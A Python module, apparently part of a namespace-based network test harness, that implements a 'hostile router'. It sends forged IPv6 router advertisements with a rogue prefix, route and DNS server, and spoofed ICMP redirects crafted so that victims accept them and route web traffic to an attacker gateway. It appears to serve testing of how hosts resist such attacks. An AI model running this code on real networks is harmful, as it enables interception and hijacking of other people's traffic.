# SPDX-License-Identifier: GPL-3.0-or-later
"""The hostile router: what it sends unasked, again and again, to everybody on the LAN.

Router advertisements with a prefix, a route and a name server of its own, and ICMP redirects for
the web server to a gateway of its own. (Its DHCP and DNS answers are in dhcp.py and services.py.)
"""

from __future__ import annotations

import asyncio
import ipaddress
import socket
import struct

from . import names, netns

INTERVAL = 0.5  # seconds; a hostile router is in no hurry
_ETH_P_IP, _ETH_P_IPV6 = 0x0800, 0x86DD
_ALL_NODES = "ff02::1"
_ALL_NODES_MAC = "33:33:00:00:00:01"
_ROUTER_LINK_LOCAL = "fe80::bad:1"
_LIFETIME = 1800


async def run(ns: str) -> None:
    """Never returns."""
    bridge = names.ROUTER_BRIDGE
    # Redirects work only towards a gateway that answers ARP.
    addresses = (f"{names.HOSTILE_GATEWAY}/32", f"{_ROUTER_LINK_LOCAL}/64",
                 f"{names.HOSTILE_RESOLVER6}/64")  # fmt: skip
    netns.ip_batch((f"addr replace {a} dev {bridge} nodad" for a in addresses), ns=ns)
    output = netns.run_in(ns, _raw_socket, bridge)
    while True:
        output.send(router_advertisement())
        for node in names.LAN_NODES:
            output.send(redirect(names.LAN_ADDRESSES[node], names.MACS[node]))
        await asyncio.sleep(INTERVAL)


def router_advertisement() -> bytes:
    prefix = ipaddress.ip_network(names.HOSTILE_PREFIX)
    resolver = socket.inet_pton(socket.AF_INET6, names.HOSTILE_RESOLVER6)
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, _LIFETIME, 0, 0)
    # Source link-layer address; prefix, on link and for autoconfiguration; route to everything,
    # of high preference; recursive name server; a small MTU.
    body += struct.pack("!BB6s", 1, 1, _mac(names.ROUTER_MAC))
    body += struct.pack("!BBBBIII16s", 3, 4, prefix.prefixlen, 0xC0, _LIFETIME, _LIFETIME, 0,
                        prefix.network_address.packed)
    body += struct.pack("!BBBBI", 24, 1, 0, 0x08, _LIFETIME)
    body += struct.pack("!BBHI16s", 25, 3, 0, _LIFETIME, resolver)
    body += struct.pack("!BBHI", 5, 1, 0, 1280)
    return _ethernet(_ALL_NODES_MAC, _ETH_P_IPV6) + _ipv6_icmp(_ROUTER_LINK_LOCAL, _ALL_NODES, body)


def redirect(victim: str, mac: str) -> bytes:
    """ICMP redirect for the web server, as an answer to an echo reply that @victim never sent:
    for that kind of packet the kernel asks for no socket of its own before it believes."""
    echo_reply = struct.pack("!BBHHH", 0, 0, 0, 1, 1)
    inner = _ipv4(victim, names.WEB_ADDRESS, socket.IPPROTO_ICMP, echo_reply)
    body = struct.pack("!BBH4s", 5, 1, 0, socket.inet_aton(names.HOSTILE_GATEWAY)) + inner
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    packet = _ipv4(names.ROUTER_ADDRESS, victim, socket.IPPROTO_ICMP, body)
    return _ethernet(mac, _ETH_P_IP) + packet


def checksum(data: bytes) -> int:
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _raw_socket(device: str) -> socket.socket:
    result = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    result.bind((device, 0))
    return result


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def _ethernet(destination: str, kind: int) -> bytes:
    return _mac(destination) + _mac(names.ROUTER_MAC) + struct.pack("!H", kind)


def _ipv4(source: str, destination: str, protocol: int, payload: bytes) -> bytes:
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0) + ends
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def _ipv6_icmp(source: str, destination: str, body: bytes) -> bytes:
    ends = b"".join(socket.inet_pton(socket.AF_INET6, end) for end in (source, destination))
    pseudo = ends + struct.pack("!II", len(body), socket.IPPROTO_ICMPV6)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    # Hop limit 255: the receiver checks that no router was in between.
    return struct.pack("!IHBB", 6 << 28, len(body), socket.IPPROTO_ICMPV6, 255) + ends + body
